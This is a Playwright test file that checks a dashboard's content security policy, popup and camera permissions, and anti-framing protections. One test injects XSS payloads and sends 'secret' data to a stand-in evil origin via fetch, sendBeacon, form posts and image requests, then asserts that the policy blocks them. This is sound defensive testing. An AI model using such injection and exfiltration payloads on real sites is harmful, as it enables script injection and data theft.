import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Frame } from '@playwright/test'
import { expect, rulesBroken, startApp, test } from './visit.ts'

test.describe.configure({ mode: 'default' })

test(
  'everything works under the content policy: popup, fonts, pages, frame, camera, download',
  { tag: '@P-260' },
  async ({ visit }) => {
    const { page } = visit
    const problems: string[] = []
    page.on('pageerror', (error) => problems.push(error.message))
    for (const name of ['Environment', 'Supabase', 'Firebase', 'GitHub', 'Flutter']) {
      await page.getByRole('link', { name, exact: true }).click()
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(name)
    }
    await page.getByRole('button', { name: /^Profile/ }).click()
    await page.getByRole('menuitem', { name: 'Account' }).click()
    await expect(page.getByText('ann@example.com').first()).toBeVisible()
    const fonts = () =>
      page.evaluate(() =>
        [...document.fonts].filter(({ status }) => status === 'loaded').map((font) => font.family),
      )
    await expect.poll(fonts).toContain('Geist Variable')

    const devicesOf = (frame: Frame) =>
      frame.evaluate(async () => {
        try {
          const stream = await navigator.mediaDevices.getUserMedia({ video: true, audio: true })
          return stream.getTracks().map(({ kind }) => kind)
        } catch (error) {
          return error instanceof DOMException ? [error.name] : [String(error)]
        }
      })
    const app = await startApp(page)
    expect(await devicesOf(app)).toEqual(['NotAllowedError'])
    // the sketch runs nothing that could ask; this is what the script in an app's page says
    await app.evaluate(() =>
      window.parent.postMessage(
        { type: 'mosaygent.permission', names: ['camera', 'microphone'] },
        { targetOrigin: '*' },
      ),
    )
    await page.getByRole('button', { name: 'Allow', exact: true }).click()
    await expect(page.locator('iframe[title="App preview"]')).toHaveAttribute(
      'allow',
      'camera; microphone; fullscreen',
    )
    // the frame is loaded anew for it: in between there is nobody to ask
    await expect(async () => {
      expect((await devicesOf(await startApp(page))).toSorted()).toEqual(['audio', 'video'])
    }).toPass()

    await page.getByRole('link', { name: /^Connected/ }).click()
    const downloading = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Download' }).click()
    expect((await downloading).suggestedFilename()).toBe('python-api.zip')

    expect(visit.broken.filter((rule) => rule.startsWith('enforce'))).toEqual([])
    expect(rulesBroken(visit, 'report')).toEqual([])
    expect(problems).toEqual([])
  },
)

test(
  'what a project or a tool says is text, and what is smuggled in does not run',
  { tag: '@P-260' },
  async ({ harness, visit }) => {
    const { page } = visit
    const before = [...harness.evil.heard]
    const evilTag = '<img src=x onerror="window.smuggled=1">'
    const app = await startApp(page)
    const main = join(harness.product.projectFolder, 'flutter', 'lib', 'main.dart')
    await writeFile(main, `void main() { print('${evilTag}' }\n`)
    await page.getByRole('button', { name: /^Reload/ }).click()
    await expect(page.getByText('Compilation Errors')).toBeVisible()
    await expect(page.getByText(evilTag).first()).toBeVisible()
    await app.evaluate((text) => {
      window.parent.postMessage(
        { type: 'mosaygent.log', lines: [{ level: 'info', text }], dropped: 0 },
        { targetOrigin: '*' },
      )
    }, evilTag)
    await expect(page.getByRole('log').getByText(evilTag).first()).toBeVisible()

    await page.evaluate((evil) => {
      const add = (tag: string, attributes: object) => {
        const element = document.createElement(tag)
        Object.assign(element, attributes)
        document.body.append(element)
        return element
      }
      add('div', { innerHTML: '<img src="/nothing.png" onerror="window.smuggled=1">' })
      add('script', { textContent: 'window.smuggled = 1' })
      add('script', { src: `${evil}/script.js` })
      add('img', { src: `${evil}/image?secret` })
      add('style', { textContent: `body { background: url(${evil}/style) }` })
      add('iframe', { src: `${evil}/frame` })
      add('object', { data: `${evil}/object` })
      add('a', { href: 'javascript:window.smuggled=1' }).click()
      const form = add('form', { action: `${evil}/form`, method: 'post' })
      if (form instanceof HTMLFormElement) form.submit()
      navigator.sendBeacon(`${evil}/beacon`, 'secret')
      fetch(`${evil}/fetch`, { method: 'POST', body: 'secret' }).catch(() => undefined)
      try {
        // oxlint-disable-next-line typescript/no-implied-eval -- what a smuggled script would try
        setTimeout('window.smuggled = 1', 0)
      } catch {
        // refused at once is refused
      }
    }, harness.evil.origin)
    await expect
      .poll(() => rulesBroken(visit, 'enforce'))
      .toEqual(
        [
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'object-src',
          'script-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-elem',
        ].toSorted(),
      )
    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
    expect(harness.evil.heard).toEqual(before)
  },
)

test(
  'nobody frames the dashboard, and who opens it loses hold of it',
  { tag: '@P-260' },
  async ({ page, harness }) => {
    await page.goto(harness.evil.origin)
    await page.evaluate((url) => {
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
      Object.assign(window, { opened: window.open(url) })
    }, `${harness.product.dashboardUrl}/login`)
    const popup =
      page
        .context()
        .pages()
        .find((one) => one !== page) ?? (await page.waitForEvent('popup'))
    await expect(popup.getByRole('button', { name: 'Continue with Google' })).toBeVisible()
    await expect.poll(() => page.evaluate(() => (Reflect.get(window, 'opened') as Window).closed)).toBe(true)
    expect(await popup.evaluate(() => window.opener === null)).toBe(true)
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    await expect.poll(() => framed?.url()).toBe('chrome-error://chromewebdata/')
  },
)
